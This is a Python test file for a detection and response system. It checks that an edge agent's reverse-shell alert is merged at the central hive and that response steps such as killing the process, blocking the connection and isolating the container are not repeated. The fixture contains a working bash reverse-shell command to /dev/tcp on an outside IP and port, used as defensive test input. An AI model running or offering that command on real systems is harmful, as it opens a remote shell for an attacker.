"""An alert the agent raised and answered at the edge, as the hive files it:
one alert under the agent's id for the event and its Edge report, repeats
counted on it, and the playbooks' auto steps not taken a second time."""

import wire
from agent._edge import Edge as EdgeEngine
from hive import Repeat
from hive.playbook import DEFAULT_PLAYBOOKS, PlaybookEngine, parse_playbook
from hive.sigma import BUILTIN_RULES, RuleEngine

import fleet


def shell(pid=4242, t=5_000, agent="web-1"):
    return wire.Exec(time=t, pid=pid, agent=agent, filename="/bin/bash", exe="/usr/bin/bash",
                     argv=["bash", "-c", "bash -i >& /dev/tcp/10.9.8.7/4444 0>&1"],
                     cmdline="bash -c bash -i >& /dev/tcp/10.9.8.7/4444 0>&1", container="c" * 64)


def edge_report(tmp_path, event):
    """What the agent's edge engine spools behind ``event``."""
    edge = EdgeEngine("web-1")
    edge.install(fleet.Bundle(name="e", version=2,
                              rules={"r.yml": (BUILTIN_RULES / "linux" / "reverse_shell.yml").read_text()},
                              playbooks={"p.yml": (DEFAULT_PLAYBOOKS / "reverse_shell.yml").read_text()}), tmp_path)
    local = wire.Exec(**{f: getattr(event, f) for f in event.__struct_fields__ if f != "agent"})
    [report] = edge.process([local]).events
    report.agent = "web-1"  # as the hive sets it on receipt
    return report


def hive_rules(tmp_path):
    engine = RuleEngine(suppress_window=300)
    engine.load(BUILTIN_RULES)
    return engine


def test_the_event_and_its_edge_report_make_one_alert_under_the_agents_id(tmp_path):
    ev = shell()
    report = edge_report(tmp_path / "a", ev)
    engine = hive_rules(tmp_path)
    alerts = [a for a in engine.process_batch([ev, report]) if isinstance(a, wire.Alert)]
    mine = [a for a in alerts if a.rule_id == report.rule_id]
    assert len(mine) == 1
    [a] = mine
    assert (a.id, a.edge, a.events) == (report.alert, True, [ev, report])
    assert "taken at the edge (bundle v2): kill_process, block_connect" == a.detail
    # The same shell again: a repeat of the edge's alert, not a new alert for the playbooks.
    again = engine.process_batch([shell(t=6_000)])
    assert [(type(m), getattr(m, "alert", None)) for m in again if getattr(m, "alert", None) == report.alert] \
        == [(Repeat, report.alert)]


def test_a_rule_only_the_edge_runs_still_makes_its_alert(tmp_path):
    report = edge_report(tmp_path, shell())
    [a] = RuleEngine().process_batch([shell(), report])  # a hive with no rules
    assert (a.id, a.rule_id, a.edge) == (report.alert, report.rule_id, True)


def test_the_hive_does_not_take_the_edges_steps_again_but_offers_the_approval(tmp_path):
    ev = shell()
    report = edge_report(tmp_path, ev)
    [alert] = [a for a in hive_rules(tmp_path).process_batch([ev, report]) if isinstance(a, wire.Alert)
               and a.edge]
    playbooks = PlaybookEngine([parse_playbook((DEFAULT_PLAYBOOKS / "reverse_shell.yml").read_text())])
    d = playbooks.on_alert(alert)
    assert d.send == []  # kill_process and block_connect were taken by the agent
    assert [a.action for a in d.actions] == ["isolate_container"] and d.actions[0].state == "pending_approval"
    results = [r.result for r in d.audit]
    assert results.count("taken at the edge: the agent ran it") == 2
    assert results.count("sent at the edge") == 2
